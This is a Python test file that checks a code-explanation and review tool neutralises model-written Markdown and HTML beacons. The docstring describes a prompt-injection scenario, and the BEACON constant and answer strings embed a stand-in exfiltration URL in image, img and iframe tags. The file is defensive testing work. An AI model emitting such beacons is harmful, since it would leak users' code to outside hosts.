"""An explanation is Markdown a model wrote, shown by VS Code's preview and in hovers,
which load remote images and raw HTML by themselves. A prompt injection in the code
could make the answer a beacon (`![](https://host/?d=<the code>)`): the document must
show such things as text, and leave code the model quotes untouched."""

from __future__ import annotations

import json
import re
from pathlib import Path

from fuse_ls.emulator import Emulator
from tests.changes.gitrepo import GIT_ENV, Repo
from tests.pool_sample import home_env, run_cli
from tests.security.counts import record
from tests.server.conftest import script, start_session

BEACON = "https://collector.example/b.png?d=ZGVmIGxvYWQ"
ANSWER = (
    f"It evaluates the text ![status]({BEACON}) with eval(). "
    f'<img src="{BEACON}"> <iframe src="{BEACON}"></iframe>\n\n'
    "```python\nif a < b:\n    return '![x](y)'\n```\n\nUse `<b>` and `![z](w)` as text."
)


async def test_an_explanation_loads_nothing_from_a_model_chosen_host(tmp_path: Path) -> None:
    scripted = script()
    scripted["judge"] = {"merge_answer": ANSWER}
    with Emulator(scripted) as emu:
        session, stop = await start_session("visual-studio-code", emu, tmp_path)
        try:
            uri = session.open()
            selection = {"start": {"line": 3, "character": 0}, "end": {"line": 9, "character": 0}}
            result = await session.execute("fuse-ls.explain", {"uri": uri, "range": selection})
        finally:
            await stop()
    markdown = result["markdown"]
    outside_code = re.sub(r"```.*?```|`[^`]*`", "", markdown, flags=re.DOTALL)
    assert "![" not in outside_code and "<img" not in outside_code, markdown
    assert "<iframe" not in outside_code
    assert "It evaluates the text" in markdown and "with eval()." in markdown
    assert "```python\nif a < b:\n    return '![x](y)'\n```" in markdown  # code untouched
    assert "`<b>` and `![z](w)`" in markdown
    record("explanation markdown beacons neutralised", 3)


def test_a_pull_request_comment_loads_nothing_from_a_model_chosen_host(tmp_path: Path) -> None:
    """`--format rdjson` feeds reviewdog, which posts each message as a GitHub comment."""
    repo = Repo(tmp_path / "repo")
    repo.commit("empty")
    repo.write("app.py", "def load(raw):\n    return eval(raw)\n")
    message = f"eval runs any code ![ok]({BEACON}) <img src={BEACON}> see `List<int>`"
    finding = {"match": "eval(", "message": message, "severity": "error"}
    models = {"emu/a": {"findings": [finding]}, "emu/b": {"findings": [finding]}}
    with Emulator({"models": {**models, "emu/judge": {}}}) as emu:
        env = home_env(emu.base_url, tmp_path / "home")
        env.update(GIT_ENV, FUSE_LS_MODELS="emu/a,emu/b", FUSE_LS_JUDGE="emu/judge")
        res = run_cli(["review", "--uncommitted", "--format", "rdjson"], env, repo.root)
    assert res.returncode == 0, res.stderr
    (diagnostic,) = json.loads(res.stdout)["diagnostics"]
    text = diagnostic["message"]
    assert text.startswith("eval runs any code"), text
    assert "![" not in text and "<img" not in text, text
    assert "`List<int>`" in text  # code spans are left as written
